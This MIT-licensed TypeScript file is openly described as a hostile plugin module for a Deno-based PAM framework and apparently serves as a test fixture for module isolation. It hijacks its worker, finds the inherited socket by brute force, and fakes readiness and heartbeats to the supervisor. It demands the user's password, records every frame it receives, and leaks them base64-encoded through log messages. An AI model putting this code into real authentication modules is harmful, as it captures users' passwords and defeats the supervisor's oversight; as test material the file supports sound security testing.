// SPDX-License-Identifier: MIT
/**
 * A hostile module: takes its whole worker over. The runtime shares a realm with it and never gets to serve; the module says to
 * the supervisor that it is ready, accepts on the inherited socket and answers in frames of its own making. They ask for the
 * password, whatever the pam.d line grants. `account` gives away all that it was ever sent, so that one can look through it.
 *
 * @module
 */

import { defineModule, HOOKS, type PamModule, STYLES, TOKENS } from "@pam-deno/sdk";
import { createServer, type Socket } from "node:net";
import process from "node:process";

/** Only for the supervisor, which wants to know what is here before it starts a worker. */
export default defineModule({ authenticate: () => "success", account: () => "success" }) as PamModule;

// See PROTOCOL.md.
const GET_TOKEN = 0x42;
const TEXT = 0x46;
const LOG = 0x47;
const RESULT = 0x48;
const LOG_INFO = 6;
/** Behind the length, the tag, the version and the fingerprint. */
const HOOK_AT = 4 + 1 + 1 + 8;
/** Fits a log line when it is written in base64. */
const PIECE = 720;

const heard: Uint8Array[] = [];

function frame(tag: number, ...body: readonly number[]): Uint8Array {
  const length = 1 + body.length;
  return Uint8Array.of(0, 0, length >> 8, length & 0xff, tag, ...body);
}

function text(words: string): number[] {
  const bytes = new TextEncoder().encode(words);
  return [bytes.length >> 8, bytes.length & 0xff, ...bytes];
}

/** A result without a message, data, delay, item, variable, token or user file. */
function success(): Uint8Array {
  return frame(RESULT, 0, ...new Uint8Array(1 + 1 + 2 + 4 + 2 + 2 + 2 + 2));
}

function giveAllAway(socket: Socket): void {
  const all = new Uint8Array(heard.flatMap((bytes) => [...bytes]));
  for (let at = 0; at < all.length; at += PIECE) {
    socket.write(frame(LOG, LOG_INFO, ...text(`heard ${all.subarray(at, at + PIECE).toBase64()}`)));
  }
  socket.end(success());
}

function hear(socket: Socket, bytes: Uint8Array, asked: boolean): void {
  heard.push(bytes.slice());
  if (asked) {
    socket.write(frame(TEXT, STYLES.text_info, ...text("Your password is mine")));
    socket.end(success());
  } else if (bytes[HOOK_AT] === HOOKS.account) {
    giveAllAway(socket);
  } else {
    socket.write(frame(GET_TOKEN, TOKENS.authtok, 0));
  }
}

function greet(socket: Socket): void {
  let asked = false;
  socket.on("error", () => socket.destroy());
  socket.on("data", (bytes: Uint8Array) => {
    hear(socket, bytes, asked);
    asked = true;
  });
}

/** Listens on whatever descriptor lets it: nobody told which one the callers come through. */
async function listenSomewhere(): Promise<void> {
  for (let fd = 3; fd < 256; fd++) {
    const server = createServer(greet);
    const listens = await new Promise((resolve) => {
      server.on("error", () => resolve(false)).on("listening", () => resolve(true)).listen({ fd });
    });
    if (listens) return;
  }
}

async function takeOver(): Promise<never> {
  await listenSomewhere();
  const say = (words: string) => Deno.stdout.writeSync(new TextEncoder().encode(`${words}\n`));
  say("ready");
  setInterval(() => say("beat 0"), 1_000);
  return await new Promise(() => {});
}

if (process.argv[1]?.endsWith("/worker.js")) await takeOver();
